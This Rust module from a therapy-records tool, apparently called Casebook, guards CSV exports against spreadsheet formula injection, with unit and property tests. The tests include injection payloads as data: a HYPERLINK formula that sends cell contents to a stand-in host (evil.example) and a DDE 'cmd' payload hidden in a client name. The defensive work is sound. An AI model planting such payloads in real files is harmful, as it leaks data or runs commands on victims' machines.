//! CSV files a therapist may open in a spreadsheet: every cell written so that it is read
//! as text, never run as a formula.
//!
//! A client's name reaches Casebook from outside (a booking page visitor types it; the
//! calendar import makes them a client), and so do the details in audit entries. A cell
//! that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel,
//! LibreOffice and Google Sheets as a formula (`=HYPERLINK(…)` can send data away when
//! clicked). Such a cell gets a leading apostrophe, as OWASP advises: spreadsheets show it
//! as the text it was, and any program reading the CSV as data sees one extra character.
//! Every field is also quoted, so that a spreadsheet set to split on `;` (as in much of
//! Europe) still reads `Ada;=cmd…` as one text cell, not a name and a formula. Every CSV the
//! project writes (the whole-vault export, the audit export) is made by [`writer`] with
//! every cell through [`cell`].

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV writer that quotes every field (see the module documentation).
pub fn writer<W: std::io::Write>(w: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(w)
}

/// `value` as a cell that a spreadsheet shows as text.
pub fn cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text_and_ordinary_values_are_untouched() {
        for bad in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+44 7700 900123",
            "-1+2",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(cell(bad), format!("'{bad}"));
        }
        for fine in [
            "Siân O'Brien",
            "C-7KQ2",
            "2026-12-02T10:00:00Z",
            "",
            "count=0",
        ] {
            assert_eq!(cell(fine), fine);
        }
    }

    #[test]
    fn every_field_is_quoted_so_a_semicolon_splits_nothing() {
        let mut w = writer(Vec::new());
        w.write_record(
            ["Ada;=cmd|' /C calc'!A0", "C-7KQ2"]
                .map(cell)
                .iter()
                .map(|c| c.as_ref()),
        )
        .unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\"Ada;=cmd|' /C calc'!A0\",\"C-7KQ2\"\n");
    }

    proptest! {
        /// Whatever the input, the written cell never starts a formula, and the original
        /// text is kept whole after at most one added apostrophe.
        #[test]
        fn no_cell_starts_a_formula(s in "\\PC{0,40}") {
            let out = cell(&s);
            prop_assert!(!out.starts_with(FORMULA_STARTS));
            prop_assert!(out == s || out.strip_prefix('\'') == Some(s.as_str()));
        }
    }
}
